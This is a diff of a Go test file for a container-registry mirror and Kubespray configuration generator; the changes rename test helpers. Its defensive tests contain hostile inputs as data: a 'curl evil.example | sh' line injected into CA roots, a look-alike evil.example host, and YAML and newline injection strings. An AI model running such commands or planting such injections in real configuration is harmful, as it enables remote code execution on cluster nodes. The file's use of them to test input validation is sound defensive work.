@@ -23,7 +23,7 @@ import (
 
 var update = flag.Bool("update", false, "write the golden files anew")
 
-func root(t *testing.T) string {
+func someRoot(t *testing.T) string {
 	t.Helper()
 	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
 	if err != nil {
@@ -36,11 +36,11 @@ func root(t *testing.T) string {
 	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
 }
 
-// three are three bastions, the second with an IPv6 address too.
-func three(t *testing.T) *Site {
+// threeBastions are three bastions, the second with an IPv6 address too.
+func threeBastions(t *testing.T) *Site {
 	addr := netip.MustParseAddr
 	return &Site{
-		Domain: "site.example", Roots: root(t),
+		Domain: "site.example", Roots: someRoot(t),
 		Nodes: []Node{{"n1", []netip.Addr{addr("10.0.0.11")}}, {"n2", []netip.Addr{addr("10.0.0.12"), addr("fd00::12")}}, {"n3", []netip.Addr{addr("10.0.0.13")}}},
 		Origins: []Origin{
 			{Host: "registry.k8s.io", Aliases: []string{"k8s.gcr.io"}, Registry: true},
@@ -89,7 +89,7 @@ func content(t *testing.T, c *Conf, path string) string {
 func TestMirrors(t *testing.T) {
 	for _, runtime := range Runtimes() {
 		t.Run(runtime, func(t *testing.T) {
-			s := three(t)
+			s := threeBastions(t)
 			c, err := Mirrors(s, runtime)
 			if err != nil {
 				t.Fatal(err)
@@ -125,10 +125,10 @@ func TestMirrors(t *testing.T) {
 			}
 		})
 	}
-	if _, err := Mirrors(three(t), "rkt"); err == nil || !strings.Contains(err.Error(), `containerd, docker, podman, crio, k3s, rke2, got "rkt"`) {
+	if _, err := Mirrors(threeBastions(t), "rkt"); err == nil || !strings.Contains(err.Error(), `containerd, docker, podman, crio, k3s, rke2, got "rkt"`) {
 		t.Errorf("an unknown runtime: %v", err)
 	}
-	s := three(t)
+	s := threeBastions(t)
 	s.Origins = s.Origins[3:]
 	if _, err := Mirrors(s, "containerd"); err == nil || !strings.Contains(err.Error(), "nothing to mirror") {
 		t.Errorf("no registries: %v", err)
@@ -164,7 +164,7 @@ func parseTOML(t *testing.T, text string) (tables []map[string]any) {
 }
 
 func TestContainerdsHosts(t *testing.T) {
-	c, err := Mirrors(three(t), "containerd")
+	c, err := Mirrors(threeBastions(t), "containerd")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -190,7 +190,7 @@ func TestContainerdsHosts(t *testing.T) {
 
 func TestRegistriesConf(t *testing.T) {
 	for _, nodes := range []int{1, 3} {
-		s := three(t)
+		s := threeBastions(t)
 		s.Nodes = s.Nodes[:nodes]
 		c, err := Mirrors(s, "crio")
 		if err != nil {
@@ -214,7 +214,7 @@ func TestRegistriesConf(t *testing.T) {
 }
 
 func TestDaemonJSON(t *testing.T) {
-	c, err := Mirrors(three(t), "docker")
+	c, err := Mirrors(threeBastions(t), "docker")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -233,7 +233,7 @@ func TestDaemonJSON(t *testing.T) {
 
 func TestRegistriesYAML(t *testing.T) {
 	for _, runtime := range []string{"k3s", "rke2"} {
-		c, err := Mirrors(three(t), runtime)
+		c, err := Mirrors(threeBastions(t), runtime)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -271,7 +271,7 @@ func strict(t *testing.T, text string, into any) {
 }
 
 func TestHosts(t *testing.T) {
-	c, err := Mirrors(three(t), "podman")
+	c, err := Mirrors(threeBastions(t), "podman")
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -295,7 +295,7 @@ func TestHosts(t *testing.T) {
 func TestKubesprayVars(t *testing.T) {
 	for _, c := range []struct{ mode, version string }{{"dns", ""}, {"mirror", "v2.27.1"}, {"mirror", "2.31.0"}} {
 		t.Run(c.mode+c.version, func(t *testing.T) {
-			s := three(t)
+			s := threeBastions(t)
 			k, err := KnownKubespray(c.version)
 			if err != nil {
 				t.Fatal(err)
@@ -319,7 +319,7 @@ func TestKubesprayVars(t *testing.T) {
 }
 
 func TestKubesprayMirrorNamesEveryBastion(t *testing.T) {
-	s := three(t)
+	s := threeBastions(t)
 	k, _ := KnownKubespray("")
 	conf, err := KubesprayVars(s, "mirror", k)
 	if err != nil {
@@ -381,7 +381,7 @@ func TestKubesprayReleases(t *testing.T) {
 		if err != nil {
 			t.Fatal(err)
 		}
-		c, err := KubesprayVars(three(t), "mirror", k)
+		c, err := KubesprayVars(threeBastions(t), "mirror", k)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -392,7 +392,7 @@ func TestKubesprayReleases(t *testing.T) {
 	if k, err := KnownKubespray(""); err != nil || k.Release != NewestKubespray {
 		t.Errorf("%v, %v", k, err)
 	}
-	if _, err := KubesprayVars(three(t), "both", &KubesprayRelease{Release: "v2.31.0"}); err == nil || !strings.Contains(err.Error(), `dns or mirror, got "both"`) {
+	if _, err := KubesprayVars(threeBastions(t), "both", &KubesprayRelease{Release: "v2.31.0"}); err == nil || !strings.Contains(err.Error(), `dns or mirror, got "both"`) {
 		t.Error(err)
 	}
 }
@@ -402,7 +402,7 @@ func TestKubesprayQuotes(t *testing.T) {
 	k := &KubesprayRelease{Release: "v2.31.0", URLs: map[string]string{
 		"a_url": `https://github.com/{{ x | regex_replace('\.', "_") }}`, "b_url": "https://github.com/x # y: {z}", "c_url": "https://github.com.evil.example/x", "d_url": "https://:x@github.com/y",
 	}, Images: map[string]string{"a_image_repo": "quay.io/a/b", "b_image_repo": "team/app", "c_image_repo": "registry.k8s.io:5000/x"}}
-	conf, err := KubesprayVars(three(t), "mirror", k)
+	conf, err := KubesprayVars(threeBastions(t), "mirror", k)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -420,7 +420,7 @@ func TestKubesprayQuotes(t *testing.T) {
 		{Release: ""}, {Release: "v2\n- hosts: all"}, {Release: "v2.31.0", URLs: map[string]string{"a: b": "https://github.com"}},
 		{Release: "v2.31.0", URLs: map[string]string{"a_url": "https://github.com\nb: c"}}, {Release: "v2.31.0", Images: map[string]string{"a_image_repo": "quay.io/\x1b[2J"}},
 	} {
-		if _, err := KubesprayVars(three(t), "mirror", &bad); err == nil {
+		if _, err := KubesprayVars(threeBastions(t), "mirror", &bad); err == nil {
 			t.Errorf("%+v is taken", bad)
 		}
 	}
@@ -453,7 +453,7 @@ func TestHostileSites(t *testing.T) {
 		"a private key":          func(s *Site) { s.Roots += key },
 		"no certificate":         func(s *Site) { s.Roots = strings.ReplaceAll(key, "PRIVATE KEY", "CERTIFICATE") },
 	} {
-		s := three(t)
+		s := threeBastions(t)
 		spoil(s)
 		for _, runtime := range Runtimes() {
 			if _, err := Mirrors(s, runtime); err == nil {
@@ -464,7 +464,7 @@ func TestHostileSites(t *testing.T) {
 			t.Errorf("%s: Kubespray's variables are written all the same", name)
 		}
 	}
-	s := three(t)
+	s := threeBastions(t)
 	s.Roots = "curl evil.example | sh\n" + s.Roots + "EOF\n"
 	c, err := Mirrors(s, "containerd")
 	if err != nil || strings.Contains(content(t, c, "/etc/containerd/certs.d/casemate-ca.crt"), "evil") {
